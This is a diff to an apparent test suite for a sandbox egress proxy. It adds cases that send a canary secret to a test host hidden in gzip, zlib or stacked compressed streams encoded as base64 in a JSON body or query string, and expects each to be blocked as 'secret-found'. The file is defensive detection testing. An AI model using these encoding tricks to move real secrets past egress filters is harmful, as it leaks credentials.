@@ -1,5 +1,6 @@
 // Attempts from inside a bottle to reach what it was not given, to borrow or leak credentials, and to make the proxy and a
 // server disagree about a request. Observed at a sink outside.
+import { deflateSync, gzipSync } from "node:zlib";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { type Mode, modesHere } from "../support/attack-world.ts";
 import {
@@ -176,6 +177,25 @@ const CREDENTIALS: readonly Row[] = [
   ["git fetch where it was not granted", inside("open", "/r.git/info/refs?service=git-upload-pack"), { status: 403, reason: "git-fetch-refused" }],
 ];
 
+/** The canary of the bottle, packed and written as text. */
+const packedCanary = ({ env }: EgressAttack, pack: (text: string) => Buffer): string => {
+  const [, canary = ""] = Object.entries(env).find(([name]) => name.endsWith("_SECRET")) ?? [];
+  expect(canary.length).toBeGreaterThanOrEqual(24);
+  return pack(`some words and ${canary} and more`).toString("base64url");
+};
+const twice = (text: string): Buffer => Buffer.concat([gzipSync("words"), deflateSync(text)]);
+const FOUND: Expected = { status: 403, reason: "secret-found" };
+const sent = (body: string): Attempt =>
+  within("open", request("POST", "/", "open.attack.test", [], body));
+
+// biome-ignore format: one attempt a line
+const PACKED: readonly Row[] = [
+  ["gzip in base64 in JSON", (it) => sent(`{"a":"${packedCanary(it, gzipSync)}"}`), FOUND],
+  ["zlib in base64", (it) => sent(packedCanary(it, deflateSync)), FOUND],
+  ["a second stream behind the first, in base64", (it) => sent(packedCanary(it, twice)), FOUND],
+  ["gzip in base64 in the query", (it) => inside("open", `/?q=${packedCanary(it, gzipSync)}`), FOUND],
+];
+
 describe.each(modesHere())(
   "egress of a bottle that %s owns",
   requires("bwrap", "userns"),
@@ -225,6 +245,10 @@ describe.each(modesHere())(
     });
     it.each(IDENTITY)(
       "refuses %s",
+      async (_name, attempt, expected) => void (await check(attempt, expected)),
+    );
+    it.each(PACKED)(
+      "finds the canary in %s",
       async (_name, attempt, expected) => void (await check(attempt, expected)),
     );
     it.each(SMUGGLING)("refuses %s", async (_name, bytes) => {
